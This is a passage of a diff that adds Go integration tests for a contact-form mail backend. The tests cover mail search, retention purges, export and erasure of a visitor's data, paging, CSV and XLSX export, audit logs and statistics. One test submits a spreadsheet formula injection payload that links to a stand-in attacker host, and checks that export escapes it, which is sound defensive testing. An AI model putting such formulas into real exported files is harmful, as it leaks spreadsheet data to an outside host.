+				SetQueryParams(map[string]string{"language": strings.Repeat("EN", 50), "country": "B3"}).
+				SetFormData(map[string]string{"name": "John Doe"}).
+				Post(testApp + "/forms/" + formWithFakeBackendSendID)
+			Expect(err).To(BeNil())
+			Expect(res.StatusCode()).To(Equal(200), res.String())
+
+			// then
+			mails, err := client.R().SetHeader("Authorization", "Bearer "+env.API_KEY).Get(testApp + "/api/mails")
+			Expect(err).To(BeNil())
+			mail, err := client.R().SetHeader("Authorization", "Bearer "+env.API_KEY).Get(fmt.Sprintf("%s/api/mails/%d", testApp, gjson.Get(mails.String(), "items.0.ID").Int()))
+			Expect(err).To(BeNil())
+			Expect(gjson.Get(mail.String(), "Metadata.Language").String()).To(BeEmpty(), mail.String())
+			Expect(gjson.Get(mail.String(), "Metadata.Country").String()).To(BeEmpty(), mail.String())
+			Expect(gjson.Get(mail.String(), "Metadata.RequestID").String()).To(Equal(strings.Repeat("r", 64)), mail.String())
+		})
+	})
+
+	When("Looking up the mails of a visitor", func() {
+		It("should find them by email address or searchable field", func() {
+			// given
+			mockGoogleRecaptcha(nil)
+			email := uuid.NewString() + "@example.com"
+			res, err := client.R().
+				SetFormData(map[string]string{"name": "Jane " + email, "email": email}).
+				Post(testApp + "/forms/" + formWithFakeBackendSendID)
+			Expect(err).To(BeNil())
+			Expect(res.StatusCode()).To(Equal(200), res.String())
+
+			// when
+			byEmail, err := client.R().SetHeader("Authorization", "Bearer "+env.API_KEY).SetQueryParam("email", " Jane <"+email+">").Get(testApp + "/api/mails")
+			Expect(err).To(BeNil())
+			byField, err := client.R().SetHeader("Authorization", "Bearer "+env.API_KEY).SetQueryParams(map[string]string{"field": "name", "value": "JANE  " + email}).Get(testApp + "/api/mails")
+			Expect(err).To(BeNil())
+			unknown, err := client.R().SetHeader("Authorization", "Bearer "+env.API_KEY).SetQueryParam("email", uuid.NewString()+"@example.com").Get(testApp + "/api/mails")
+			Expect(err).To(BeNil())
+
+			// then
+			Expect(gjson.Get(byEmail.String(), "count").Int()).To(Equal(int64(1)), byEmail.String())
+			Expect(gjson.Get(byField.String(), "count").Int()).To(Equal(int64(1)), byField.String())
+			Expect(gjson.Get(byField.String(), "items.0.ID").Int()).To(Equal(gjson.Get(byEmail.String(), "items.0.ID").Int()))
+			Expect(gjson.Get(unknown.String(), "count").Int()).To(Equal(int64(0)), unknown.String())
+		})
+	})
+
+	When("Listing the purge runs", func() {
+		It("should return the log of the retention job", func() {
+			// when
+			res, err := client.R().SetHeader("Authorization", "Bearer "+env.API_KEY).Get(testApp + "/api/purge-runs")
+
+			// then
+			Expect(err).To(BeNil())
+			Expect(res.StatusCode()).To(Equal(200), res.String())
+			Expect(gjson.Get(res.String(), "items").IsArray()).To(BeTrue(), res.String())
+		})
+	})
+
+	When("Purging the expired mails", func() {
+		It("should keep the mails of a form without retention", func() {
+			if memory.IsDSN(env.DB_DSN) {
+				Skip("The purge command opens its own in-memory store")
+			}
+
+			// given
+			mockGoogleRecaptcha(nil)
+			res, err := client.R().SetFormData(map[string]string{"name": "Keep me"}).Post(testApp + "/forms/" + formKeptForeverID)
+			Expect(err).To(BeNil())
+			Expect(res.StatusCode()).To(Equal(200), res.String())
+			res, err = client.R().SetFormData(map[string]string{"name": "Purge me"}).Post(testApp + "/forms/" + formWithFakeBackendSendID)
+			Expect(err).To(BeNil())
+			Expect(res.StatusCode()).To(Equal(200), res.String())
+
+			// when
+			purgeConfig := *env
+			purgeConfig.RETENTION = time.Nanosecond
+			err = app.Purge(context.Background(), false, &purgeConfig)
+
+			// then
+			Expect(err).To(BeNil())
+			mails, err := client.R().SetHeader("Authorization", "Bearer "+env.API_KEY).Get(testApp + "/api/mails")
+			Expect(err).To(BeNil())
+			Expect(gjson.Get(mails.String(), "count").Int()).To(Equal(int64(1)), mails.String())
+			Expect(gjson.Get(mails.String(), "items.0.FormID").String()).To(Equal(formKeptForeverID), mails.String())
+			runs, err := client.R().SetHeader("Authorization", "Bearer "+env.API_KEY).Get(testApp + "/api/purge-runs")
+			Expect(err).To(BeNil())
+			Expect(gjson.Get(runs.String(), "items.0.Mails").Int()).To(Equal(int64(1)), runs.String())
+		})
+	})
+
+	When("A visitor asks for their data", func() {
+		It("should export and erase everything of their email address", func() {
+			// given
+			mockGoogleRecaptcha(nil)
+			email := uuid.NewString() + "@example.com"
+			res, err := client.R().
+				SetFormData(map[string]string{"email": email, "message": "Forget me"}).
+				Post(testApp + "/forms/" + formWithFakeBackendSendID)
+			Expect(err).To(BeNil())
+			Expect(res.StatusCode()).To(Equal(200), res.String())
+
+			// when
+			export, err := client.R().SetHeader("Authorization", "Bearer "+env.API_KEY).SetQueryParam("email", email).Get(testApp + "/api/subjects/export")
+			Expect(err).To(BeNil())
+			archive, err := client.R().SetHeader("Authorization", "Bearer "+env.API_KEY).SetQueryParams(map[string]string{"email": email, "format": "zip"}).Get(testApp + "/api/subjects/export")
+			Expect(err).To(BeNil())
+			erase, err := client.R().SetHeader("Authorization", "Bearer "+env.API_KEY).SetBody(map[string]string{"email": email, "mode": "shred"}).Post(testApp + "/api/subjects/erase")
+			Expect(err).To(BeNil())
+			afterwards, err := client.R().SetHeader("Authorization", "Bearer "+env.API_KEY).SetQueryParam("email", email).Get(testApp + "/api/subjects/export")
+			Expect(err).To(BeNil())
+
+			// then
+			Expect(gjson.Get(export.String(), "Mails.#").Int()).To(Equal(int64(1)), export.String())
+			Expect(gjson.Get(export.String(), "Submissions.0.Fields.#(Name==\"message\").Value").String()).To(Equal("Forget me"), export.String())
+			Expect(archive.Header().Get("Content-Type")).To(Equal("application/zip"))
+			Expect(archive.Body()[:2]).To(Equal([]byte("PK")))
+			Expect(gjson.Get(erase.String(), "Mails").Int()).To(Equal(int64(1)), erase.String())
+			Expect(gjson.Get(erase.String(), "Submissions").Int()).To(Equal(int64(1)), erase.String())
+			Expect(gjson.Get(afterwards.String(), "Mails.#").Int()).To(Equal(int64(0)), afterwards.String())
+		})
+
+		It("should not take the recipients of a form for the subject", func() {
+			// given
+			mockGoogleRecaptcha(nil)
+			res, err := client.R().
+				SetFormData(map[string]string{"email": uuid.NewString() + "@example.com", "message": "Hello"}).
+				Post(testApp + "/forms/" + formWithFakeBackendSendID)
+			Expect(err).To(BeNil())
+			Expect(res.StatusCode()).To(Equal(200), res.String())
+
+			// when
+			export, err := client.R().SetHeader("Authorization", "Bearer "+env.API_KEY).SetQueryParam("email", "ttcteneramonda@outlook.com").Get(testApp + "/api/subjects/export")
+
+			// then
+			Expect(err).To(BeNil())
+			Expect(gjson.Get(export.String(), "Mails.#").Int()).To(Equal(int64(0)), export.String())
+		})
+	})
+
+	When("Paging through the mails of a form", func() {
+		It("should follow the cursor without skipping or repeating mails", func() {
+			// given
+			mockGoogleRecaptcha(nil)
+			for _, name := range []string{"First", "Second", "Third"} {
+				res, err := client.R().SetFormData(map[string]string{"name": name + " " + uuid.NewString()}).Post(testApp + "/forms/" + formWithFakeBackendSendID)
+				Expect(err).To(BeNil())
+				Expect(res.StatusCode()).To(Equal(200), res.String())
+			}
+			filters := map[string]string{"form": "contact-fake", "provider": "fake", "success": "true", "from": time.Now().UTC().Add(-time.Hour).Format(time.RFC3339), "pagelen": "2"}
+
+			// when
+			first, err := client.R().SetHeader("Authorization", "Bearer "+env.API_KEY).SetQueryParams(filters).Get(testApp + "/api/mails")
+			Expect(err).To(BeNil())
+			filters["cursor"] = gjson.Get(first.String(), "next_cursor").String()
+			second, err := client.R().SetHeader("Authorization", "Bearer "+env.API_KEY).SetQueryParams(filters).Get(testApp + "/api/mails")
+			Expect(err).To(BeNil())
+
+			// then
+			Expect(first.StatusCode()).To(Equal(200), first.String())
+			Expect(gjson.Get(first.String(), "items.#").Int()).To(Equal(int64(2)), first.String())
+			Expect(gjson.Get(first.String(), "count").Int()).To(BeNumerically(">=", 3), first.String())
+			Expect(filters["cursor"]).NotTo(BeEmpty())
+			Expect(second.StatusCode()).To(Equal(200), second.String())
+			Expect(gjson.Get(second.String(), "count").Exists()).To(BeFalse(), second.String())
+			Expect(gjson.Get(second.String(), "items.0.ID").Int()).To(BeNumerically("<", gjson.Get(first.String(), "items.1.ID").Int()), second.String())
+		})
+
+		It("should refuse an unknown form or an invalid cursor", func() {
+			res, err := client.R().SetHeader("Authorization", "Bearer "+env.API_KEY).SetQueryParam("form", "unknown").Get(testApp + "/api/mails")
+			Expect(err).To(BeNil())
+			Expect(res.StatusCode()).To(Equal(400), res.String())
+
+			res, err = client.R().SetHeader("Authorization", "Bearer "+env.API_KEY).SetQueryParam("cursor", "invalid").Get(testApp + "/api/mails")
+			Expect(err).To(BeNil())
+			Expect(res.StatusCode()).To(Equal(400), res.String())
+		})
+	})
+
+	When("Exporting the mails of a form", func() {
+		It("should have a column per field of the form", func() {
+			// given
+			mockGoogleRecaptcha(nil)
+			email := uuid.NewString() + "@example.com"
+			res, err := client.R().
+				SetFormData(map[string]string{"email": email, "message": "Export me", "name": "Jane"}).
+				Post(testApp + "/forms/" + formWithFakeBackendSendID)
+			Expect(err).To(BeNil())
+			Expect(res.StatusCode()).To(Equal(200), res.String())
+			filters := map[string]string{"form": "contact-fake", "from": time.Now().UTC().Add(-time.Hour).Format(time.RFC3339)}
+
+			// when
+			export, err := client.R().SetHeader("Authorization", "Bearer "+env.API_KEY).SetQueryParams(filters).Get(testApp + "/api/mails/export")
+			Expect(err).To(BeNil())
+			filters["format"] = "xlsx"
+			workbook, err := client.R().SetHeader("Authorization", "Bearer "+env.API_KEY).SetQueryParams(filters).Get(testApp + "/api/mails/export")
+			Expect(err).To(BeNil())
+
+			// then
+			Expect(export.StatusCode()).To(Equal(200), export.String())
+			Expect(export.Header().Get("Content-Type")).To(Equal("text/csv"))
+			rows, err := csv.NewReader(bytes.NewReader(export.Body())).ReadAll()
+			Expect(err).To(BeNil())
+			Expect(rows[0]).To(Equal([]string{"ID", "Created at", "Form", "Provider", "Success", "Spam", "Subject", "Sender", "Recipients", "email", "message", "Other fields", "Content"}))
+			Expect(rows).To(ContainElement(ContainElements(email, "Export me", "name: Jane")))
+			Expect(workbook.StatusCode()).To(Equal(200))
+			Expect(workbook.Body()[:2]).To(Equal([]byte("PK")))
+		})
+
+		It("should escape values that spreadsheets run as formulas", func() {
+			// given
+			mockGoogleRecaptcha(nil)
+			email := uuid.NewString() + "@example.com"
+			formula := `=HYPERLINK("http://evil.example.com?"&A1,"Click")`
+			res, err := client.R().
+				SetFormData(map[string]string{"email": email, "message": formula}).
+				Post(testApp + "/forms/" + formWithFakeBackendSendID)
+			Expect(err).To(BeNil())
+			Expect(res.StatusCode()).To(Equal(200), res.String())
+			filters := map[string]string{"form": "contact-fake", "email": email}
+
+			// when
+			export, err := client.R().SetHeader("Authorization", "Bearer "+env.API_KEY).SetQueryParams(filters).Get(testApp + "/api/mails/export")
+			Expect(err).To(BeNil())
+			filters["format"] = "xlsx"
+			workbook, err := client.R().SetHeader("Authorization", "Bearer "+env.API_KEY).SetQueryParams(filters).Get(testApp + "/api/mails/export")
+			Expect(err).To(BeNil())
+
+			// then
+			rows, err := csv.NewReader(bytes.NewReader(export.Body())).ReadAll()
+			Expect(err).To(BeNil())
+			Expect(rows).To(HaveLen(2))
+			Expect(rows[1][10]).To(Equal("'" + formula))
+			file, err := excelize.OpenReader(bytes.NewReader(workbook.Body()))
+			Expect(err).To(BeNil())
+			cell, err := file.GetCellValue("Sheet1", "K2")
+			Expect(err).To(BeNil())
+			Expect(cell).To(Equal("'" + formula))
+		})
+
+		It("should refuse an unknown format", func() {
+			res, err := client.R().SetHeader("Authorization", "Bearer "+env.API_KEY).SetQueryParam("format", "pdf").Get(testApp + "/api/mails/export")
+			Expect(err).To(BeNil())
+			Expect(res.StatusCode()).To(Equal(400), res.String())
+		})
+	})
+
+	When("Auditing access to mails", func() {
+		It("should record who viewed and exported them", func() {
+			// given
+			mockGoogleRecaptcha(nil)
+			res, err := client.R().
+				SetFormData(map[string]string{"email": uuid.NewString() + "@example.com", "message": "Audit me"}).
+				Post(testApp + "/forms/" + formWithFakeBackendSendID)
+			Expect(err).To(BeNil())
+			Expect(res.StatusCode()).To(Equal(200), res.String())
+			mails, err := client.R().SetHeader("Authorization", "Bearer "+env.API_KEY).Get(testApp + "/api/mails")
+			Expect(err).To(BeNil())
+			id := gjson.Get(mails.String(), "items.0.ID").String()
+
+			// when
+			_, err = client.R().SetHeader("Authorization", "Bearer "+env.API_KEY).Get(testApp + "/api/mails/" + id)
+			Expect(err).To(BeNil())
+			_, err = client.R().SetHeader("Authorization", "Bearer "+env.API_KEY).SetQueryParams(map[string]string{"format": "ndjson", "form": "contact-fake", "email": "john@example.com"}).Get(testApp + "/api/mails/export")
+			Expect(err).To(BeNil())
+			audit, err := client.R().SetHeader("Authorization", "Bearer "+env.API_KEY).SetQueryParams(map[string]string{"resource": "mail", "record": id}).Get(testApp + "/api/audit")
+			Expect(err).To(BeNil())
+			exports, err := client.R().SetHeader("Authorization", "Bearer "+env.API_KEY).SetQueryParams(map[string]string{"resource": "mail", "action": "export"}).Get(testApp + "/api/audit")
+
+			// then
+			Expect(err).To(BeNil())
+			Expect(audit.StatusCode()).To(Equal(200), audit.String())
+			Expect(gjson.Get(audit.String(), "items.#.Action").Value()).To(Equal([]any{"view", "view"}), audit.String())
+			Expect(gjson.Get(audit.String(), "items.0.Actor").String()).To(HavePrefix("api-key:"))
+			Expect(gjson.Get(audit.String(), "items.0.RequestID").String()).NotTo(BeEmpty())
+			Expect(gjson.Get(exports.String(), "items.0.Filter").String()).To(Equal("form=contact-fake&format=ndjson"), exports.String())
+			Expect(gjson.Get(exports.String(), "items.0.Records").Exists()).To(BeTrue(), exports.String())
+			Expect(gjson.Get(exports.String(), "items.0.Subject").String()).NotTo(BeEmpty(), exports.String())
+		})
+
+		It("should keep the API key of the admin pages out of the audit log", func() {
+			// when
+			res, err := client.R().SetQueryParams(map[string]string{"format": "csv", "apiKey": env.API_KEY}).Get(testApp + "/admin/mails/export")
+			Expect(err).To(BeNil())
+			Expect(res.StatusCode()).To(Equal(200), res.String())
+			exports, err := client.R().SetHeader("Authorization", "Bearer "+env.API_KEY).SetQueryParams(map[string]string{"resource": "mail", "action": "export"}).Get(testApp + "/api/audit")
+
+			// then
+			Expect(err).To(BeNil())
+			Expect(gjson.Get(exports.String(), "items.0.Filter").String()).To(Equal("format=csv"), exports.String())
+		})
+
+		It("should refuse an invalid record", func() {
+			res, err := client.R().SetHeader("Authorization", "Bearer "+env.API_KEY).SetQueryParam("record", "abc").Get(testApp + "/api/audit")
+			Expect(err).To(BeNil())
+			Expect(res.StatusCode()).To(Equal(400), res.String())
+		})
+	})
+
+	When("Asking for the statistics", func() {
+		It("should count the mails per form, provider and origin", func() {
+			// given
+			mockGoogleRecaptcha(nil)
+			from := time.Now().UTC().Add(-time.Hour).Format(time.RFC3339)
+			res, err := client.R().
+				SetHeader("Origin", "https://stats.example.com").
+				SetFormData(map[string]string{"email": uuid.NewString() + "@example.com", "message": "Count me"}).
+				Post(testApp + "/forms/" + formWithFakeBackendSendID)
+			Expect(err).To(BeNil())
+			Expect(res.StatusCode()).To(Equal(200), res.String())
+
+			// when
+			stats, err := client.R().SetHeader("Authorization", "Bearer "+env.API_KEY).SetQueryParams(map[string]string{"from": from, "bucket": "hour"}).Get(testApp + "/api/stats")
+
+			// then
+			Expect(err).To(BeNil())
+			Expect(stats.StatusCode()).To(Equal(200), stats.String())
+			form := gjson.Get(stats.String(), `Forms.#(FormID=="`+formWithFakeBackendSendID+`")`)
+			Expect(form.Get("Form").String()).To(Equal("Contact TTC Teneramonda"), stats.String())
+			Expect(form.Get("Mails").Int()).To(BeNumerically(">=", 1), stats.String())
+			Expect(gjson.Get(stats.String(), `Providers.#(Provider=="fake").SuccessRate`).Float()).To(BeNumerically(">", 0), stats.String())
+			Expect(gjson.Get(stats.String(), "Spam.Mails").Int()).To(BeNumerically(">=", 1), stats.String())
+			Expect(gjson.Get(stats.String(), "Origins.#.Origin").Value()).To(ContainElement("stats.example.com"), stats.String())
+		})
+
+		It("should start a week bucket on monday", func() {
+			// given
+			mockGoogleRecaptcha(nil)
+			res, err := client.R().SetFormData(map[string]string{"name": "Count me weekly"}).Post(testApp + "/forms/" + formWithFakeBackendSendID)
+			Expect(err).To(BeNil())
+			Expect(res.StatusCode()).To(Equal(200), res.String())
+
+			// when
+			stats, err := client.R().SetHeader("Authorization", "Bearer "+env.API_KEY).SetQueryParams(map[string]string{"from": time.Now().UTC().AddDate(0, 0, -7).Format(time.RFC3339), "bucket": "week"}).Get(testApp + "/api/stats")
+
+			// then
+			Expect(err).To(BeNil())
+			Expect(stats.StatusCode()).To(Equal(200), stats.String())
+			bucket, err := time.Parse(time.RFC3339, gjson.Get(stats.String(), `Forms.#(FormID=="`+formWithFakeBackendSendID+`").Bucket`).String())
+			Expect(err).To(BeNil(), stats.String())
+			Expect(bucket.Weekday()).To(Equal(time.Monday), stats.String())
+			Expect(bucket.Format(time.TimeOnly)).To(Equal("00:00:00"), stats.String())
+			Expect(time.Since(bucket)).To(BeNumerically("<", 7*24*time.Hour), stats.String())
+		})
+
+		It("should refuse an unknown bucket or too many buckets", func() {
+			res, err := client.R().SetHeader("Authorization", "Bearer "+env.API_KEY).SetQueryParam("bucket", "year").Get(testApp + "/api/stats")
+			Expect(err).To(BeNil())
+			Expect(res.StatusCode()).To(Equal(400), res.String())
+
+			res, err = client.R().SetHeader("Authorization", "Bearer "+env.API_KEY).SetQueryParams(map[string]string{"from": "2020-01-01", "bucket": "hour"}).Get(testApp + "/api/stats")
+			Expect(err).To(BeNil())
+			Expect(res.StatusCode()).To(Equal(400), res.String())
+		})
+	})
 })